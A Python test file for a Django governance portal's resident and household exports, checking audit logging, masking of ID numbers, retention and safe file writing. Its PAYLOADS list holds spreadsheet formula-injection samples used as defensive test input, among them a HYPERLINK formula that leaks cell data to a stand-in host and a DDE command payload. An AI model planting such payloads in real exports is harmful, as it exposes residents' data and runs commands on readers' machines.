"""Exports that cannot be turned against the people who open them, that the county can audit, and
that never write more than the user asked for."""
import io
import os
import zipfile
from datetime import timedelta

from django.utils import timezone
from openpyxl import load_workbook

from governance import exports
from governance.models import AuditEntry, ExportJob
from governance.tasks import sweep_jobs

from .fixtures import make_household, make_resident, valid_id_number

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&B3&C3,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=1+1",
]


def content_of(response) -> bytes:
    return b"".join(response.streaming_content)


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode()


def test_formula_payloads_in_names_and_addresses_are_written_as_text(tree, personas, web):
    for payload in PAYLOADS:
        make_household(tree.A1g, address=payload)
        make_resident(tree.A1g, name=payload[:50])
    client = web(personas.township_staff_a)
    for key, column in (("residents", 0), ("households", 1)):
        content = content_of(client.get(f"/exports/{key}/"))
        xml = sheet_xml(content)
        assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet
        ws = load_workbook(io.BytesIO(content)).active
        cells = [row[column] for row in ws.iter_rows(min_row=2)]
        written = {c.value: c for c in cells}
        for payload in PAYLOADS:
            text = payload[:50] if key == "residents" else payload
            assert text in written, (key, text)  # the text intact, character for character
            assert written[text].data_type == "s" and written[text].quotePrefix


def test_the_import_template_writes_text_cells_too(personas, web):
    from dataclasses import replace

    from governance import imports

    imports.register(replace(imports.RESIDENTS, example=["=1+1", *imports.RESIDENTS.example[1:]]))
    try:
        content = content_of(web(personas.township_staff_a).get("/imports/residents/template/"))
    finally:
        imports.register(imports.RESIDENTS)
    assert "<f>" not in sheet_xml(content)
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "=1+1"


def test_an_invalid_filter_writes_nothing_instead_of_the_whole_list(tree, personas, web):
    make_resident(tree.A1g, name="不该导出")
    resp = web(personas.township_staff_a).get("/exports/residents/", {"region": "not-a-number", "status": "nonsense"})
    assert resp.status_code == 400
    assert "attachment" not in resp.get("Content-Disposition", "")
    page = resp.content.decode()
    assert "筛选条件" in page and "未导出任何数据" in page and "不该导出" not in page
    assert not AuditEntry.objects.filter(action__startswith="export").exists()
    assert not ExportJob.objects.exists()


def test_the_county_sees_a_township_heads_export_in_its_audit_log_and_the_other_township_does_not(tree, personas, web):
    number = valid_id_number()
    make_resident(tree.A1g, name="被查者", id_number=number)
    resp = web(personas.township_head_a).get("/exports/residents/", {"q": "被查者"})
    assert resp.status_code == 200
    entry = AuditEntry.objects.get(action="export.download")
    assert entry.region == tree.A and entry.data["rows"] == 1 and entry.data["key"] == "residents"
    assert entry.data["params"] == {"q": "被查者"}
    # a number typed into a filter is never stored in clear
    web(personas.township_head_a).get("/exports/residents/", {"q": number})
    assert number not in str(list(AuditEntry.objects.values_list("data", flat=True)))
    assert AuditEntry.objects.filter(data__params__q=number[:4] + "*" * 10 + number[-4:]).exists()

    county = web(personas.county_admin).get("/audit/", {"action": "export.download"})
    assert entry in county.context["object_list"]
    other = web(personas.township_head_b).get("/audit/", {"action": "export.download"})
    assert other.status_code in (403, 404) or entry not in other.context["object_list"]


def test_a_background_export_stores_its_filters_masked_and_runs_them_unmasked(tree, personas, web, monkeypatch):
    from governance.actions import export_run_job

    monkeypatch.setattr(exports, "SYNC_LIMIT", 0)
    monkeypatch.setattr("governance.tasks.export_run.delay", lambda job_id: None)
    number = valid_id_number()
    make_resident(tree.A1g, name="按名查")
    make_resident(tree.A1g, name="别人")
    resp = web(personas.township_head_a).get("/exports/residents/", {"q": "按名查", "note": number})
    job = ExportJob.objects.get()
    assert resp.status_code == 302 and number not in str(job.params) and number not in job.sealed_params
    assert exports.unseal_params(job) == {"q": "按名查", "note": number}  # what the worker runs
    start = AuditEntry.objects.get(action="export.start")
    assert start.region == tree.A and number not in str(start.data) and start.data["title"] == "居民"
    export_run_job(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == "done" and job.rows_done == 1
    assert os.stat(job.file_path).st_mode & 0o077 == 0  # only the portal's user reads it


def test_an_export_file_is_deleted_after_its_retention_period_and_the_page_says_so(tree, personas, web, settings):
    settings.EXPORT_RETENTION_DAYS = 7
    path = exports.job_xlsx(987654)
    path.write_bytes(b"old export")
    owner = personas.township_staff_a
    old = ExportJob.objects.create(user=owner, key="residents", title="居民", status="done", file_path=str(path),
                                   finished_at=timezone.now() - timedelta(days=8))
    recent_path = exports.job_xlsx(987655)
    recent_path.write_bytes(b"recent export")
    recent = ExportJob.objects.create(user=owner, key="residents", title="居民", status="done", file_path=str(recent_path),
                                      finished_at=timezone.now() - timedelta(days=6))
    sweep_jobs()
    sweep_jobs()  # idempotent
    old.refresh_from_db()
    recent.refresh_from_db()
    assert old.status == "expired" and old.file_path == "" and not path.exists()
    assert recent.status == "done" and recent_path.exists()
    client = web(owner)
    assert "已超过保留期" in client.get(f"/exports/jobs/{old.pk}/").content.decode()
    assert client.get(f"/exports/jobs/{old.pk}/download/").status_code == 404
    recent_path.unlink()


def test_a_killed_export_leaves_no_half_written_file_under_the_real_name(tree, personas, monkeypatch):
    """The file appears only when complete; an export that dies half-way leaves nothing at its name."""
    from governance.apps import GovernanceConfig  # noqa: F401 (the exports are registered)

    make_resident(tree.A1g)
    export = exports.get("residents")
    path = exports.job_xlsx(424242)

    def die(n):
        raise RuntimeError("killed")  # the loop stops here, as when the worker dies

    monkeypatch.setattr(exports, "PROGRESS_SECONDS", 0)
    try:
        exports.write_xlsx(export, export.selector(user=personas.county_admin), path, progress=die)
    except RuntimeError:
        pass
    assert not path.exists() and not any(p.exists() for p in exports.partial_paths(path))
